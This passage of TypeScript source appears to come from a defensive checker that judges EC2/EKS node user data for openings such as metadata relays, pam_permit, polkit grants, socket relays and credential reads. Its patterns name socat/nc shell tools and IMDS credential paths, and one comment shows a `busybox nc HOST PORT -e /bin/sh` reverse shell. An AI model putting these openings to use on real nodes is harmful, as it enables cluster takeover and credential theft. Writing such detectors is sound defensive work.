    const links = [...AMI_LINKS, ...marks.flatMap(m => ("link" in m ? [m.link] : []))];
    const rootPower = (path: string): string | undefined => {
        const real = linkedPaths(path, links);
        if (real === undefined)
            return `${path}, which a link user data makes whose path or target the pack cannot tell may lead anywhere`;
        const found = real.find(p => rootPowerSocket(p));
        return found === undefined ? undefined : found === posix.normalize(path) ? path : `${path}, a link to ${found}`;
    };
    const sockets = [
        ...exposed.flatMap(f => {
            const socket = f.to.socket === undefined ? undefined : rootPower(f.to.socket);
            return socket ? [runtimeSocketRelay(`${f.forwarder} to ${socket}, ${f.how}`)] : [];
        }),
        ...marks.flatMap(m => {
            if (!("relay" in m)) return [];
            const socket = m.relay.paths.map(rootPower).find(x => x !== undefined);
            return socket ? [runtimeSocketRelay(`${m.relay.how}: ${socket}`)] : [];
        }),
    ];
    return [...openings.filter(o => !isMark(o)), ...joined, ...sockets];
}

/** What the node's own settings make of root's writes and commands (rootReads.ts finds them). */
/**
 * Podman Quadlet units: systemd's generator turns each into a service running `podman run` with the unit's Volume=,
 * AddCapability=, Network= ... (podman-systemd.unit(5), search paths for root and users).
 */
const QUADLET_UNIT =
    /^\/(etc\/containers\/systemd|usr\/share\/containers\/systemd|root\/\.config\/containers\/systemd|home\/[^/]+\/\.config\/containers\/systemd)\/.+\.(container|kube|pod)$/;

/**
 * An iptables rule that only passes, logs or hands on for judgement packets the instance itself sends: the filter
 * table (the default; iptables(8) "TABLES": filter's OUTPUT is "for locally-generated packets"), a chain that is
 * OUTPUT or the user's own (`-N` makes one), and a target that accepts, returns, logs, drops or jumps to a user chain
 * (no NAT, redirect, TPROXY, TTL, TEE or queue target: iptables-extensions(8) "TARGET EXTENSIONS"). EC2's "Limit
 * access to the Instance Metadata Service" locks metadata to chosen local users this way. Rules on INPUT, FORWARD
 * or PREROUTING, and every other table, may route metadata for others and stay judged as relays.
 */
function filtersLocalOutput(operands: readonly string[]): boolean {
    const value = (short: string[], long: string[]) => {
        const i = operands.findIndex(w => short.includes(w) || long.includes(w));
        const glued = operands.find(w => long.some(l => w.startsWith(`${l}=`)));
        return i >= 0 ? operands[i + 1] : glued?.slice(glued.indexOf("=") + 1);
    };
    if ((value(["-t"], ["--table"]) ?? "filter") !== "filter") return false;
    if (operands.some(w => w === "-N" || w === "--new-chain")) return true;
    const chain = value(["-A", "-I", "-R"], ["--append", "--insert", "--replace"]);
    if (!chain || /^(INPUT|FORWARD|PREROUTING|POSTROUTING)$/.test(chain)) return false;
    const target = value(["-j", "-g"], ["--jump", "--goto"]);
    return target === undefined || !IPTABLES_TARGET_EXTENSIONS.has(target);
}

/** iptables-extensions(8) "TARGET EXTENSIONS" that change or re-route packets (LOG, NFLOG only log): a name not here is ACCEPT, DROP, REJECT, RETURN or a chain. */
const IPTABLES_TARGET_EXTENSIONS = new Set(
    "AUDIT CHECKSUM CLASSIFY CLUSTERIP CONNMARK CONNSECMARK CT DNAT DNPT DSCP ECN HL HMARK IDLETIMER LED MARK MASQUERADE NETMAP NFQUEUE NOTRACK RATEEST REDIRECT SECMARK SET SNAT SNPT SYNPROXY TCPMSS TCPOPTSTRIP TEE TOS TPROXY TRACE TTL ULOG".split(
        " ",
    ),
);

const nodeJudge = {
    serves: (words, cwd) => commandListeners(words, cwd).length > 0,
    written(path, content, how, edit) {
        const where = `user data's ${path}`;
        if (QUADLET_UNIT.test(path))
            return [
                {
                    who: "whatever the unit gives its containers",
                    what: `user data writes a Podman Quadlet unit (${path}, ${how}): systemd runs its containers as root with binds, privileges and namespaces the pack does not read, and a bind of the kubelet's directory or the runtime's socket owns the node; start each container with a podman run command, which the pack judges as a pod`,
                },
            ];
        if (content === undefined)
            return [...NODE_CONFIG_PATHS, ...READ_BEFORE_WRITE, ...SERVER_CONFIGS.map(c => c.path)].some(p =>
                p.test(path),
            )
                ? [
                      {
                          who: "whoever chooses what is written",
                          what: `user data writes ${path} with content the pack cannot read (${how}): it decides who gets into the node or what root runs there; write it in the user data itself`,
                      },
                  ]
                : [];
        // A server's configuration, or a fragment appended or edited into it, judged by what it serves and where.
        const server = SERVER_CONFIGS.find(c => c.path.test(path));
        if (server) return listenerOpenings(server.read(content), `${path}, ${how}`);
        // A stunnel configuration anywhere (`stunnel FILE` reads any path) running a program per connection.
        const stunnelServices = stunnelListeners(content);
        if (stunnelServices.length > 0) return listenerOpenings(stunnelServices, `${path}, ${how}`);
        if (
            !edit &&
            JUPYTER_CONFIG_NAMES.includes(posix.basename(path)) &&
            !JUPYTER_CONFIG_DIRS.includes(posix.dirname(path))
        )
            return jupyterConfigElsewhere(path, content, how);
        if (REGISTRY_HOSTS.test(path)) return edit ? [] : registryHostsOpenings(path, content);
        if (REGISTRY_CERTS.test(path) && !edit) return registryCertOpenings(path, content, how);
        // Docker's daemon configuration (dockerd(8) "--config-file", default /etc/docker/daemon.json: `hosts`,
        // `tlsverify`) and the AL2 service's environment file (/etc/sysconfig/docker OPTIONS, passed to dockerd).
        if (path === "/etc/docker/daemon.json") return dockerDaemonJsonOpenings(content, where);
        if (/^\/etc\/sysconfig\/docker(-network)?$/.test(path))
            return dockerHostOpenings(
                content
                    .split(/\r?\n/)
                    .filter(l => /^\s*(export\s+)?[A-Z_]*OPTIONS\s*=/.test(l))
                    .flatMap(l => l.replace(/^[^=]*=\s*["']?|["']?\s*$/g, "").split(/\s+/)),
                where,
            );
        // Environment files of sshd and the kubelet (their units run `sshd -D $OPTIONS`, `kubelet ...
        // $KUBELET_EXTRA_ARGS`): sshd's -o takes any sshd_config keyword (sshd(8)), the kubelet's are its flags.
        if (path === "/etc/sysconfig/sshd")
            return sshdOpenings(
                [...content.matchAll(/-o\s*["']?([A-Za-z]+)\s*[= ]\s*([^\s"']+)/g)]
                    .map(m => `${m[1]} ${m[2]}`)
                    .join("\n"),
                where,
                true,
            );
        if (path === "/etc/sysconfig/kubelet")
            return kubeletFlagOpenings(
                content
                    .split(/\r?\n/)
                    .filter(l => /^\s*(export\s+)?KUBELET_[A-Z_]*ARGS\s*=/.test(l))
                    .flatMap(l => l.replace(/^[^=]*=\s*["']?|["']?\s*$/g, "").split(/\s+/)),
                where,
            );
        if (SSHD_DROP_IN.test(path) || (edit && path === "/etc/ssh/sshd_config"))
            return sshdOpenings(content, where, true);
        // polkit rules (polkit(8), "AUTHORIZATION RULES"): a rule returning YES for systemd's unit management (or for any
        // action it does not check) lets its subject start root units over the system bus (org.freedesktop.systemd1(5):
        // "PID 1 uses polkit to allow access to privileged operations for unprivileged processes"), whatever network or
        // privilege limits its own unit has. Reboot or power actions only are accepted.
        if (/^\/(etc|usr\/share)\/polkit-1\/(rules\.d\/.+\.rules|localauthority\/.+\.pkla)$/.test(path)) {
            const grants = /polkit\.Result\.YES|Result(Any|Active|Inactive)\s*=\s*yes/.test(content);
            const systemd =
                /org\.freedesktop\.(systemd1|machine1|import1|portable1|policykit)\b|\borg\.freedesktop\.\*/.test(
                    content,
                );
            const checksAction = /action\.id|^\s*Action\s*=/m.test(content);
            if (grants && (systemd || !checksAction))
                return [
                    {
                        who: "the users the polkit rule names",
                        what: `user data writes a polkit rule (${path}, ${how}) letting users manage systemd units or any action it does not name: they start root services over the system bus; ${ROOT_SSH}`,
                    },
                ];
        }
        // PAM: pam_permit lets anyone through the stack it is in (pam_permit(8)).
        if (/^\/etc\/pam\.d\//.test(path) && /^\s*-?(auth|account)\s+\S+\s+pam_permit\.so/m.test(content))
            return [
                {
                    who: "anyone at the node's login prompt",
                    what: `user data makes PAM let anyone in (${path}: pam_permit.so in an auth or account stack, ${how}); ${ROOT_SSH}`,
                    anyInstance: {
                        who: "anyone at the instance's login prompt",
                        what: `user data makes PAM let anyone in (${path}: pam_permit.so in an auth or account stack, ${how}): a login on the instance's network (its instance profile's role through instance metadata)`,
                    },
                },
            ];
        // An edit (sed -i) of the node's configuration is judged like a write of it: the pack cannot place the
        // fragment in a file it does not see (the kubelet's config, /etc/shadow, sudoers ...).
        if (edit && NODE_CONFIG_PATHS.some(p => p.test(path)))
            return [
                {
                    who: "whoever the edited file lets in",
                    what: `user data edits ${path} (${how}), the node's own configuration or credentials, which the pack cannot judge from the edit; set it through a NodeConfig or leave it as the AMI has it`,
                },
            ];
        if (
            edit ||
            (SERVICE_DROP_IN.test(path) && ordersOnly(content)) ||
            (/^\/etc\/sudoers\.d\/[^/]+$/.test(path) && tighteningSudoDefaults(content)) ||
            (path === "/root/.aws/config" && awsConfigWithoutCredentials(content)) ||
            (path === "/root/.docker/config.json" && dockerConfigWithoutCredentials(content)) ||
            (path === "/root/.ssh/config" && sshConfigLocalOnly(content))
        )
            return [];
        if (NODE_CONFIG_PATHS.some(p => p.test(path)))
            return [
                {
                    who: "whoever the written file lets in",
                    what: `user data writes ${path} (${how}), the node's own configuration or credentials, which the pack cannot judge`,
                },
            ];
        return [];
    },
    ran(
        given: readonly string[],
        how: string,
        cwd?: string,
        fileText?: (path: string) => string | undefined,
        nonRoot?: boolean,
        view: ScriptView = NO_VIEW,
    ): NodeOpening[] {
        // A multi-call binary's applet is that program for every reader below (shell.ts appletWords: `busybox nc HOST
        // PORT -e /bin/sh` is nc's; BusyBox docs, nc: "-e PROG Run PROG after connect").
        const words = appletWords(given);
        const name = posix.basename(words[0] ?? "");
        const operands = words.slice(1);
        // chpasswd(8), passwd(1) --stdin, useradd/usermod -p: a password for a login (a locked "!" or "*" is none).
        const password =
            name === "chpasswd" ||
            (name === "passwd" &&
                operands.some(
                    w =>
                        !/^(-l|--lock|-S|--status|-e|--expire)$/.test(w) &&
                        w.startsWith("-") &&
                        w !== "-n" &&
                        w !== "-x" &&
                        w !== "-w" &&
                        w !== "-i",
                )) ||
            (/^(useradd|usermod)$/.test(name) &&
                operands.some((w, i) => /^(-p|--password)$/.test(w) && !/^[!*]/.test(operands[i + 1] ?? "")));
        const out: NodeOpening[] = password ? [passwordOpening(how)] : [];
        // grubby --args / --update-kernel ... --args="...": kernel arguments for the next boot.
        if (name === "grubby")
            words.forEach((w, i) => {
                const value = w.startsWith("--args=") ? w.slice(7) : words[i - 1] === "--args" ? w : undefined;
                if (value !== undefined) out.push(...kernelArgsOpenings(value.split(/\s+/), `user data (${how})`));
            });
        // A packet's TTL raised on the node undoes the instance metadata hop limit (the token answer's IP TTL is the
        // hop limit: EC2 user guide, "Instance metadata access considerations"): iptables-extensions(8) TTL/HL targets,
        // nft `ttl set`/`hoplimit set`.
        if (
            (/^(ip6?tables(-legacy|-nft)?)$/.test(name) &&
                words.some(w => /^(TTL|HL)$|^--(ttl|hl)-(inc|set)$/.test(w))) ||
            (name === "nft" && /\b(ttl|hoplimit)\s+set\b/.test(words.join(" "))) ||
            // tc-pedit(8): `pedit ex munge ip ttl set N` (or ip6 hoplimit) rewrites the field on the way through.
            (name === "tc" && words.includes("pedit") && /\bmunge\s+(ip\s+ttl|ip6\s+hoplimit)\b/.test(words.join(" ")))
        )
            out.push(hopLimitUndone(how));
        // Remote management in any form: cloud-config's modules are refused (REMOTE_MANAGEMENT), and so are the agents
        // run as commands or units (REMOTE_AGENTS).
        const unit = startedUnits(words).map(u => u.replace(/\.service$/, ""));
        // ssh(1) -F configfile ("an alternative per-user configuration file"), read as root's ~/.ssh/config is written
        // (sshConfigLocalOnly); one user data changed in a way the pack cannot compute may say anything. ssh_config(5).
        if (/^(ssh|autossh|scp|sftp)$/.test(name))
            for (const config of operands.flatMap((w, i) =>
                w === "-F" ? [operands[i + 1] ?? ""] : /^-F./.test(w) ? [w.slice(2)] : [],
            )) {
                const text = readConfig(posix.resolve(cwd ?? "/", config), fileText, view);
                if (text === null || (typeof text === "string" && !sshConfigLocalOnly(text)))
                    out.push({
                        who: "the hosts the ssh configuration forwards to or runs",
                        what: `user data runs ${name} -F ${config} (${how}), an ssh configuration ${text === null ? "the pack cannot read" : "with more than host names, authentication and loopback local forwards (a RemoteForward or DynamicForward hands the node's network to the remote side; ProxyCommand, LocalCommand run commands)"}; ${ROOT_SSH}`,
                    });
            }
        const remote = remoteAgent(words, cwd, fileText, view) ?? unit.find(u => remoteAgentUnit(u));
        if (remote)
            out.push({
                who: remote,
                what: `user data hands the node to ${remote} (${how}), which runs anything as root on it; ${ROOT_SSH}`,
            });
        const contained = containedAgent(name, operands, cwd);
        if (contained)
            out.push({
                who: contained.who,
                what: `user data hands the node to ${contained.who} (${how}): it runs in a container beyond a pod's confinement (${contained.reach}), so the jobs it takes are root on the node; ${ROOT_SSH}`,
            });
        // The CloudWatch agent configured from Parameter Store: whoever writes the parameter chooses which node files
        // root ships (CloudWatch agent user guide, fetch-config "-c ssm:"), content the pack cannot read.
        if (
            /^amazon-cloudwatch-agent-ctl$/.test(name) &&
            words.some((w, i) => /^ssm:/.test(w) && words[i - 1] === "-c")
        )
            out.push({
                who: "whoever writes the Parameter Store parameter",
                what: `user data has the CloudWatch agent take its configuration from Parameter Store (${how}): which node files it ships (every pod's token included) is content the pack cannot read; write the agent's configuration in the user data (-c file:)`,
            });
        // AL2 bootstrap.sh --kubelet-extra-args: the kubelet's flags (judged as in a NodeConfig); --b64-cluster-ca is
        // written base64-decoded to /etc/kubernetes/pki/ca.crt, the AL2 kubelet-config.json's clientCAFile
        // (amazon-eks-ami bootstrap.sh: `echo $B64_CLUSTER_CA | base64 -d > $CA_CERTIFICATE_FILE_PATH`).
        if (name === "bootstrap.sh")
            words.forEach((w, i) => {
                const option = (flag: string) =>
                    w.startsWith(`${flag}=`) ? w.slice(flag.length + 1) : words[i - 1] === flag ? w : undefined;
                const value = option("--kubelet-extra-args");
                if (value !== undefined)
                    out.push(...kubeletFlagOpenings(value.trim().split(/\s+/), `user data (${how})`));
                const ca = option("--b64-cluster-ca");
                if (ca !== undefined)
                    out.push(...clusterCABundle(ca, `user data (${how})`, "bootstrap.sh --b64-cluster-ca"));
            });
        // dockerd(8) -H/--host tcp://: the Docker API on the network; without --tlsverify it authenticates no client
        // (Docker docs, "Protect the Docker daemon socket": "--tlsverify ... only connections from clients
        // authenticated by a certificate signed by that CA are allowed"; --tls alone verifies nobody).
        if (name === "dockerd") out.push(...dockerHostOpenings(operands, `user data (${how})`));
        if (name === "podman") out.push(...podmanServiceOpenings(operands, `user data (${how})`));
        // A relay of a root-power socket (socat, systemd-socket-proxyd, ncat; runtimeSocketRelay) puts its API on the
        // network, unauthenticated: containerd's on a node port is root for any pod reaching it, as tcp_address is.
        // A path linked to one (or by a link the pack cannot follow) is judged once the links are known (loopbackJoin).
        if (/^(socat|systemd-socket-proxyd|ncat|nc|netcat)$/.test(name)) {
            const paths = operands.flatMap(w => w.match(/\/[^\s,:]+/g) ?? []);
            if (paths.some(p => rootPowerSocket(p))) out.push(runtimeSocketRelay(how));
            else if (paths.length > 0) out.push(heldForJoin({ relay: { paths, how } }));
        }
        // Servers it starts: shells, files and forward proxies on the node's network (SERVERS, listenerOpenings). Read
        // from the words as given: SERVERS tells a multi-call binary's applets (busybox httpd, toybox nc) from the
        // programs of the same name (readServers).
        out.push(...listenerOpenings(commandListeners(given, cwd, fileText, !nonRoot, view), how, fileText, view));
        // A shell handed to another host by a program that dials out (shellsHandedOut).
        out.push(...shellsHandedOut(words, cwd, fileText, view).map(what => shellHandedOut(how, what)));
        // Forwarders to the instance's loopback, joined with its loopback listeners per user data (loopbackJoin).
        out.push(...forwarderMarks(commandForwarders(given, fileText, view), how));
        // A line's commands relaying together (lineRelays): a shell's -c line, and the line of the first command of one.
        const dashC = SHELLS.test(name) ? operands.findIndex(w => /^-[a-z]*c$/.test(w)) : -1;
        const ownLine = /^a command it runs: /.test(how) ? how.slice("a command it runs: ".length) : undefined;
        const first = ownLine === undefined ? undefined : simpleCommands(ownLine).find(c => c.words.length > 0);
        if (dashC >= 0 && operands[dashC + 1] !== undefined) out.push(...lineRelays(operands[dashC + 1], how));
        else if (
            ownLine !== undefined &&
            first !== undefined &&
            posix.basename(first.words[programIndex(first.words)] ?? "") === name
        )
            out.push(...lineRelays(ownLine, how));
        out.push(
            ...listenerOpenings(
                unit.flatMap(u => codeServerUnitListeners(u, fileText, view)),
                how,
            ),
        );
        // A server's packaged unit runs its program on its packaged configuration (PACKAGED_SERVER_UNITS), judged as
        // that command.
        for (const command of unit.flatMap(u => PACKAGED_SERVER_UNITS[u] ?? [])) {
            const started = `${how}: its packaged unit runs ${command.join(" ")}`;
            out.push(
                ...listenerOpenings(commandListeners(command, "/", fileText, true, view), started, fileText, view),
            );
            out.push(...forwarderMarks(commandForwarders(command, fileText, view), started));
        }
        // kubectl proxy serves the API server, and kubectl port-forward a pod's ports (its loopback-only ones included: the
        // stream ends inside the pod's network namespace), to whoever connects, authenticated as kubectl's own credential
        // (kubectl reference, "kubectl proxy": --address "The IP address on which to serve on", default 127.0.0.1;
        // --accept-hosts only matches the Host header a client sends; "kubectl port-forward": --address default
        // localhost). On the node that credential is the kubelet's kubeconfig or root's: the node's identity, which the
        // Node authorizer lets read the Secrets of the pods on the node and mint their ServiceAccount tokens (Kubernetes,
        // "Using Node Authorization"). On loopback or a unix socket only the node's processes connect (loopbackOnly).
        if (name === "kubectl") {
            const takesValue =
                /^(--kubeconfig|--context|--cluster|--user|-n|--namespace|-s|--server|--token|--as|--as-group|--as-uid|--certificate-authority|--client-certificate|--client-key|--request-timeout|--tls-server-name|--cache-dir|-v|--v|--log-file|--profile|--profile-output)$/;
            const sub = operands.find((w, i) => !w.startsWith("-") && !takesValue.test(operands[i - 1] ?? ""));
            if (sub === "proxy" || sub === "port-forward") {
                const given = operands
                    .flatMap((w, i) =>
                        w.startsWith("--address=") ? [w.slice(10)] : operands[i - 1] === "--address" ? [w] : [],
                    )
                    .flatMap(v => v.split(","));
                const socket = sub === "proxy" && operands.some(w => /^(-u|--unix-socket)(=.*)?$/.test(w));
                const addresses = given.length > 0 ? given : [sub === "proxy" ? "127.0.0.1" : "localhost"];
                if (!socket && !loopbackOnly(addresses))
                    out.push({
                        who: "every pod that reaches the node",
                        what: `user data has kubectl ${sub} serve ${sub === "proxy" ? "the API server" : "a pod's ports"} on ${addresses.join(", ")} (${how}): ${sub === "proxy" ? `whoever connects calls the API server as kubectl's credential, on the node the kubelet's kubeconfig or root's (the node's identity: the Node authorizer lets it read the Secrets of the pods on the node and mint their ServiceAccount tokens, Kubernetes "Using Node Authorization")` : "whoever connects reaches the pod's ports through kubectl's credential, the ones it keeps on its own loopback included (the stream ends inside the pod's network namespace)"}; keep --address ${sub === "proxy" ? "127.0.0.1" : "localhost"} (the default)${sub === "proxy" ? " or a unix socket" : ""}`,
                    });
            }
        }
        // EC2 Instance Connect's package sets sshd's AuthorizedKeysCommand: any IAM principal allowed
        // ec2-instance-connect:SendSSHPublicKey logs in as ec2-user (EC2 user guide, "Install EC2 Instance Connect").
        if (
            /^(dnf|yum|rpm|apt|apt-get|zypper)$/.test(name) &&
            operands.some(w => /^ec2-instance-connect(-[0-9].*)?(\.rpm)?$/.test(posix.basename(w)))
        )
            out.push({
                who: "every IAM principal allowed ec2-instance-connect:SendSSHPublicKey",
                what: `user data installs EC2 Instance Connect (${how}): it sets sshd's AuthorizedKeysCommand, so IAM principals push a key and log in; ${ROOT_SSH}`,
            });
        // agetty(8) --autologin USER: a console (the EC2 serial console's ttyS0 included) logs in without a password.
        if (/^a?getty$/.test(name) && operands.some(w => /^(-a|--autologin)(=|$)/.test(w)))
            out.push({
                who: "whoever opens the node's console (EC2 serial console)",
                what: `user data has a console log in without a password (${how}): agetty --autologin gives a shell to whoever reaches the console; ${ROOT_SSH}`,
            });
        // Setting or printing the address relays nothing (a printed file is judged where it is written).
        if (
            words.some(w => namesImds(w)) &&
            !/^(export|local|declare|readonly|typeset|echo|printf|logger|test|\[|\[\[|grep)$/.test(name)
        ) {
            const blocks =
                /^(iptables|ip6tables|iptables-legacy|iptables-nft|nft)$/.test(name) &&
                words.some(w => /^(DROP|REJECT|drop|reject)$/.test(w)) &&
                !words.some(w => /DNAT|REDIRECT|--to-destination|dnat/i.test(w));
            const localOutput =
                /^(iptables|ip6tables|iptables-legacy|iptables-nft)$/.test(name) && filtersLocalOutput(operands);
            if (!blocks && !localOutput && !/^(curl|wget|ec2-metadata|ec2-metadata\.sh)$/.test(name))
                out.push(imdsRelay(how, relayListensLocally(name, operands)));
        }
        return out;
    },
    credentials(words) {
        const name = posix.basename(words[0] ?? "");
        // A role's credentials: .../security-credentials/<role> (or identity-credentials/ec2/security-credentials/
        // ec2-instance); the bare .../security-credentials/ lists only the role's name (EC2 user guide, "Instance
        // metadata categories").
        if (
            /^(curl|wget)$/.test(name) &&
            words.some(
                w =>
                    namesImds(w) &&
                    /(security|identity)-credentials\/[^/\s?#"']+/.test(w) &&
                    !/identity-credentials\/ec2\/(info)?\/?$/.test(w),
            )
        )
            return "the node role's credentials from instance metadata";
        // An IMDSv2 session token (PUT .../latest/api/token): whoever holds it reads instance metadata, the node role's
        // credentials included, until it expires (up to 6 hours), from wherever it is: the hop limit applies to the
        // token's own response only (EC2 API InstanceMetadataOptionsRequest, HttpPutResponseHopLimit: "The desired HTTP
        // PUT response hop limit for instance metadata requests"), not to the GETs that use it. Printed where pods read,
        // it counts as the credentials themselves; captured and used in the script only, it stays there.
        if (/^(curl|wget)$/.test(name) && words.some(w => namesImds(w) && /\/api\/token(?![\w-])/.test(w)))
            return "an IMDSv2 session token of instance metadata (the node role's credentials for its TTL)";
        const call = words
            .slice(1)
            .filter(w => !w.startsWith("-"))
            .slice(0, 2)
            .join(" ");
        // AWS CLI commands printing credentials or tokens of the caller (the node role): AWS CLI reference.
        if (
            name === "aws" &&
            /^(configure export-credentials|sts (get-session-token|assume-role.*|get-federation-token)|ecr(-public)? get-login-password|ecr get-login|ecr(-public)? get-authorization-token|eks get-token|codeartifact get-authorization-token|sso get-role-credentials)$/.test(
                call,
            )
        )
            return `what \`aws ${call}\` prints (credentials or a token of the node role)`;
        return undefined;
    },
    configured(text: string, how: string, view: ScriptView = NO_VIEW) {
        const lines = text.split(/\r?\n/);
        // A forward proxy on the node (squid.conf http_access allow ...) fetches instance metadata for whoever asks it
        // unless link-local destinations are denied: the hop limit then protects nothing.
        const proxies =
            lines.some(l => /^\s*http_access\s+allow\b/.test(l)) && lines.some(l => /^\s*http_port\b/.test(l));
        const linkLocal =
            lines.some(l => /^\s*acl\s+(\S+)\s+dst\s+.*169\.254\.(0\.0\/16|169\.254)/.test(l)) &&
            lines.some(l => /^\s*http_access\s+deny\s+/.test(l));
        // Bound to loopback only (http_port 127.0.0.1:3128), it serves the node's own processes (loopbackOnly).
        const squid =
            proxies && !linkLocal && !loopbackOnly(directiveValues(lines, LISTENS.squid))
                ? [imdsRelay(`${how}: a forward proxy that does not deny 169.254.0.0/16`)]
                : [];
        const ttl = lines.find(l => /-j\s+(TTL|HL)\b|\b(ttl|hoplimit)\s+set\b/.test(l));
        const grub = lines
            .filter(l => /^\s*GRUB_CMDLINE_LINUX(_DEFAULT)?\s*=/.test(l))
            .flatMap(l => l.replace(/^[^=]*=\s*["']?|["']?\s*$/g, "").split(/\s+/));
        // A configuration naming the node's credentials (every pod's token under /var/lib/kubelet/pods, the kubelet's
        // pki, hybrid nodes' credentials), or a glob that can match them: an agent reading it as root ships or serves
        // them (an OpenTelemetry filelog receiver's include, a log shipper's path).
        const credentials = lines.find(l =>
            [...l.matchAll(/(?<![\w.~-])\/[^\s"',;\][)(]*[^\s"',;]*/g)].some(m => {
                const path = m[0];
                const literal = path.replace(/[*?[{].*$/, "").replace(/\/+$/, "") || "/";
                return NODE_CREDENTIALS.some(
                    c =>
                        literal === c ||
                        literal.startsWith(`${c}/`) ||
                        (literal !== path && c.startsWith(`${literal}/`)) ||
                        (literal !== path && literal === "/"),
                );
            }),
        );
        const early = [
            ...(credentials
                ? [
                      {
                          who: "whoever reads what the agent ships or serves",
                          what: `user data has a node agent read the node's credentials (${how}: ${credentials.trim()}): every pod's token or the node's keys (podSpec.ts NODE_SECRETS) leave the node with its output; name log files only`,
                      },
                  ]
                : []),
            ...squid,
            ...forwardProxies(text).map(proxy => imdsRelay(`${how}: ${proxy}`)),
            ...listenerOpenings(configFileServers(text, view), how),
            ...forwarderMarks(configForwarders(text), how),
            ...(ttl ? [hopLimitUndone(`${how}: ${ttl.trim()}`)] : []),
            ...kernelArgsOpenings(grub, `user data (${how})`),
        ];
        // Environment settings naming the endpoint (AWS_EC2_METADATA_SERVICE_ENDPOINT=...), proxy settings (no_proxy in
        // a TOML or INI file as well: proxySetting) and blocking rules relay nothing.
        const relays = text.split(/\r?\n/).filter(
            l =>
                namesImds(l) &&
                !/^\s*(export\s+)?[A-Za-z_][A-Za-z0-9_]*=/.test(l) &&
                !proxySetting(l) &&
                !/-j\s+(DROP|REJECT)\b/.test(l) &&
                // An nftables rule whose verdict is drop or reject (nft(8), "Verdict statement"), with no NAT,
                // redirect or forwarding statement: it blocks, as an iptables DROP does.
                !(
                    /\b(drop|reject)\b(\s+with\s+[a-z0-9-]+(\s+type\s+[a-z0-9-]+)?)?\s*(;|#|$)/i.test(l) &&
                    !/\b(dnat|snat|redirect|tproxy|masquerade|queue|fwd|dup|accept)\b/i.test(l)
                ),
        );
        return [
            ...early,
            ...(relays.length > 0 ? [imdsRelay(`${how}: ${relays[0].trim()}`, configListensLocally(text))] : []),
        ];
    },
} satisfies NodeJudge;

function registryHostsOpenings(path: string, content: string): NodeOpening[] {
    try {
        return writablePathOpenings(stringsIn(parseToml(content), ""), `user data's ${path}`);
    } catch (e) {
        return [unreadable(`user data's ${path}`, (e as Error).message)];
    }
}

/**
 * What each line of `texts` downloads where: a URL's file name by the absolute path its line saves it to (curl
 * `-o PATH`/`--output PATH` and combined `-fsSLo PATH`, wget `-O PATH`/`--output-document=PATH`, a `> PATH`
 * redirection).
 */
function scriptDownloads(texts: readonly string[]): Map<string, string[]> {
    const out = new Map<string, string[]>();
    for (const line of texts.flatMap(t => t.split(/\r?\n/))) {
        const url = /\b(?:https?|ftp|s3):\/\/[^\s'"]*\/([^\s'"/?#]+)/.exec(line)?.[1];
        if (url === undefined) continue;
        for (const m of line.matchAll(
            /(?:^|\s)(?:-[A-Za-z]*o\s*|--output(?:-document)?(?:=|\s+)|-O\s*|>\s*)["']?(\/[^\s'";&|]+)/g,
        ))
            out.set(posix.normalize(m[1]), [url]);
    }
    return out;
}

/** A URL (a scheme's). */
const REMOTE_URL = /^[A-Za-z][\w.+-]*:\/\//;
/**
 * The URLs a curl or wget command downloads to its standard output, saving no file (copiedDestinations: curl without
 * -o/-O, curl(1) "If not told otherwise, curl writes the received data to stdout"; wget -O -), with the command
 * (`how`) whose redirection then saves them; undefined for any other command.
 */
function downloadPrinted(words: readonly string[], how: string): { how: string; urls: string[] } | undefined {
    const urls = words.slice(1).filter(w => REMOTE_URL.test(w));
    const saved = copiedDestinations(words, "/");
    return /^(curl|wget)$/.test(posix.basename(words[0] ?? "")) &&
        urls.length > 0 &&
        saved.files.length + saved.trees.length === 0
        ? { how, urls }
        : undefined;
}

/**
 * The REMOTE_AGENTS agent a command starts, the one place an agent is recognised: by the program's name as given, as
 * downloadedName, and as the file name of the URL user data downloaded it from (ScriptView.downloads: GitLab docs,
 * "Install GitLab Runner manually on GNU/Linux", `curl -L --output <path> .../gitlab-runner-linux-amd64`, any path); a
 * script given to a shell is that script run with its operands (bash(1), "ARGUMENTS": the first non-option argument
 * "is assumed to be the name of a file containing shell commands", the rest its positional parameters).
 */
function remoteAgent(
    words: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
    depth = 0,
): string | undefined {
    const name = posix.basename(words[0] ?? "");
    if (INTERPRETERS.test(name) && !/^(busybox|source|\.)$/.test(interpreterName(name))) {
        const script = SHELLS.test(name) ? shellScriptWords(words) : interpreterScriptWords(words);
        return script === undefined || depth > 2 ? undefined : remoteAgent(script, cwd, fileText, view, depth + 1);
    }
    const program = posix.resolve(cwd ?? "/", words[0] ?? "");
    // A bare name is the file of that name in a PATH directory (bash(1), "COMMAND EXECUTION"), any of the usual ones.
    const paths = (words[0] ?? "").includes("/") ? [program] : EXECUTABLE_PATH.map(d => posix.join(d, name));
    const sources = paths.flatMap(p => view.downloads?.get(p) ?? []);
    const names = [name, ...sources].flatMap(n => [n, downloadedName(n)]);
    return REMOTE_AGENTS.find(
        a =>
            names.some(n => a.names.test(n)) &&
            a.hands(words.slice(1), p => readConfig(posix.resolve(cwd ?? "/", p), fileText, view), {
                program,
                fileText,
                view,
            }),
    )?.who;
}
/** The directories of root's PATH on the node's distributions (Amazon Linux, Bottlerocket's admin container, Ubuntu). */
const EXECUTABLE_PATH = ["/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin", "/sbin", "/bin", "/snap/bin"];
/** Options giving an interpreter its code instead of a program file (perlrun(1) -e/-E, ruby(1) -e, node -e/-p, php -r). */
const INTERPRETER_CODE_OPTIONS: Record<string, RegExp> = {
    perl: /^-[eE]$/,
    ruby: /^-e$/,
    node: /^(-e|--eval|-p|--print)$/,
    php: /^(-r|--run)$/,
};
/**
 * The script an interpreter other than a shell runs and its operands, or undefined when it runs none (code given on
 * its command line or standard input): python(1) "python [option] ... [-c cmd | -m mod | file | -] [arg] ..."
 * (pythonInvocation); perlrun(1), ruby(1) "ruby [switches] [--] [programfile] [argument ...]", node(1), php(1), lua(1):
 * the first operand after their options (programOptions' grammar) is the program file, unless -e (perl -E, node
 * -p/--eval, php -r) gave the code; an interpreter whose options the pack has no grammar for (tclsh, expect) by its
 * first word that is no option.
 */
function interpreterScriptWords(words: readonly string[]): readonly string[] | undefined {
    const name = interpreterName(words[0] ?? "");
    if (name === "python") {
        const run = pythonInvocation(words.slice(1));
        return run?.kind === "script" ? [run.value, ...run.rest] : undefined;
    }
